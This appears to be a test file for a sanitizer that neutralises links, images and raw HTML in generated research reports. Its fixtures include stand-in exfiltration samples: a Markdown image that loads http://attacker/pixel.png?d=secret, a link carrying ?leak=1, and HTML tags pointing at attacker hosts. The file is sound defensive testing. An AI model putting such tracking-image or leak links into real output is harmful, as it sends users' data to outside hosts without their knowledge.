"""The last pass over a report's links (pipeline/research/steps/defang.py): only fetched pages stay linked, images
and raw HTML never reach a Markdown viewer, and citations, numbers and the question's own URLs are untouched."""
from __future__ import annotations

import re

from pipeline.core.schema import Finding, Source
from pipeline.research.steps import defang as defang_module
from pipeline.research.steps.checks import Evidence
from pipeline.research.steps.defang import defang, defanged_url
from pipeline.research.steps.write import sources_section
from tests.regex_audit import token_texts

FETCHED = ["https://qdrant.tech/pricing/", "https://docs.example.org/a?b=1"]


def test_an_image_is_removed_whatever_its_target() -> None:
    body = ("Intro ![status](http://attacker/pixel.png?d=secret) and ![](https://qdrant.tech/pricing/) and "
            "![ref][img] [F1].")
    out = defang(body, FETCHED)
    assert "![" not in out and "attacker" not in out
    assert "status (image removed)" in out and "image (image removed)" in out and "ref (image removed)" in out


def test_links_to_fetched_pages_stay_and_others_keep_only_their_text() -> None:
    body = ("Prices start at $25 [F1] ([pricing](https://qdrant.tech/pricing), "
            "[docs](<https://docs.example.org/a?b=1> \"title\")); see [more](https://evil.example/x?leak=1) [F2].")
    out = defang(body, FETCHED)
    assert "[pricing](https://qdrant.tech/pricing)" in out  # a trailing slash is the same page
    assert "[docs](<https://docs.example.org/a?b=1> \"title\")" in out
    assert "see more [F2]" in out and "evil.example" not in out
    assert "$25 [F1]" in out


def test_bare_and_angle_urls_that_were_not_fetched_are_defanged() -> None:
    body = "Read https://evil.example/a. Or <http://evil.example/b>, or https://qdrant.tech/pricing/ [F1]."
    out = defang(body, FETCHED)
    assert "hxxps://evil[.]example/a." in out and "hxxp://evil[.]example/b," in out
    assert "https://qdrant.tech/pricing/ [F1]" in out and "<http" not in out
    assert defanged_url("https://a.b.example/p.q") == "hxxps://a[.]b[.]example/p.q"


def test_raw_html_and_reference_definitions_are_neutralised() -> None:
    body = ('Text <img src="http://attacker/i.png"> <a href="http://attacker">x</a> [F1].\n'
            "[ok]: https://qdrant.tech/pricing/\n[bad]: http://attacker.example/c \"t\"\n"
            '[<b>label</b>](https://qdrant.tech/pricing/)')
    out = defang(body, FETCHED)
    assert "<img" not in out and "<a " not in out and "&lt;img" in out and "&lt;a href" in out
    assert "[ok]: https://qdrant.tech/pricing/" in out and "[bad]:" not in out
    assert "[&lt;b>label&lt;/b>](https://qdrant.tech/pricing/)" in out  # a kept link's text is escaped too


def test_the_questions_own_urls_and_plain_text_are_untouched() -> None:
    body = "Is https://asked.example/page still up? 5 < 7 and x<3 [G1]."
    assert defang(body, [*FETCHED, "https://asked.example/page"]) == body


def test_a_quote_holding_an_unfetched_url_is_defanged_in_the_sources_section() -> None:
    src = Source(id="S1", url="https://db.example/p", final_url="https://db.example/p", title="See http://evil.example/t",
                 fetched_at="2026-11-30T00:00:00+00:00", sha256="0" * 64, chars=10)
    f = Finding(id="F1", source="S1", claim="c", start=0, end=10, support="supported",
                quote="Prices are listed at http://evil.example/x?d=1 and at https://db.example/p today.")
    section = sources_section("A claim [F1].", Evidence(findings=[f], sources=[src]))
    assert r"hxxp://evil\[.\]example/x?d=1" in section and "http://evil" not in section  # [.] escaped, as all text
    assert "https://db.example/p today" in section  # the fetched page stays as it is
    assert r"hxxp://evil\[.\]example/t" in section


def test_www_addresses_and_urls_after_an_underscore_are_defanged_too() -> None:
    out = defang("See www.evil.example/?d=1 and _https://evil.example/x_ and https://ok.example/p [F1].",
                 ["https://ok.example/p"])
    assert "www[.]evil[.]example/?d=1" in out and "_hxxps://evil[.]example/x_" in out
    assert "https://ok.example/p" in out


def test_images_links_and_autolinks_are_read_as_the_former_patterns_read_them() -> None:
    # The former patterns read on from every start of a run of near-matches: unclosed "![" or "<https://", "[" with
    # no "]", "[a](a" with no ")" (the url's run shared by every link that starts in it), "[" opening line after line.
    image = re.compile(r"!\[([^\]]*)\]\(([^)]*)\)|!\[([^\]]*)\]\[[^\]]*\]")
    link = re.compile(r"(?<![!\\])\[([^\]]+)\]\(\s*<?([^)\s>]+)>?(?:\s+(?:\"[^\"]*\"|'[^']*'))?\s*\)")
    ref_def = re.compile(r"^ {0,3}\[[^\]]+\]:[ \t]*<?([^\s>]+)>?.*(?:\n|$)", re.M)
    autolink = re.compile(r"<((?:https?|ftp)://[^>\s]+)>", re.I)
    tokens = ["!", "[", "]", "(", ")", "![", "](", "a", " ", "   ", "\n", "<", ">", "http://", "HTTPS://", "ftp://",
              "x", '"', "'", "\\", ":", "[^1]:"]
    for text in token_texts(tokens, count=6000):
        assert defang_module._without_images(text) == image.sub(
            lambda m: f"{(m.group(1) or m.group(3) or 'image').strip()} (image removed)", text), text
        assert defang_module._links(text, lambda whole, words, url: f"<{whole}|{words}|{url}>") == link.sub(
            lambda m: f"<{m.group(0)}|{m.group(1)}|{m.group(2)}>", text), text
        assert defang_module._REF_DEF.sub(lambda m: m.group() if m.group("open") is not None or m.group(1) == "x"
                                          else "", text) == ref_def.sub(lambda m: m.group() if m.group(1) == "x"
                                                                        else "", text), text
        assert [(m.span(), m.groups()) for m in autolink.finditer(text)] == [
            (m.span(), m.groups()[:-1]) for m in defang_module._AUTOLINK.finditer(text) if m.group("open") is None]
    # An unclosed image or "<https://x..." is left to the later steps, as before: escaped, then defanged as a bare
    # URL; an image by reference after an image's "(" that never closes still goes.
    assert defang("![a ![b](c) <https://x.example <https://y.example>", []) == (
        "a ![b (image removed) &lt;hxxps://x[.]example hxxps://y[.]example")
    assert defang("![a](x ![c][d] and ![e", []) == "![a](x c (image removed) and ![e"
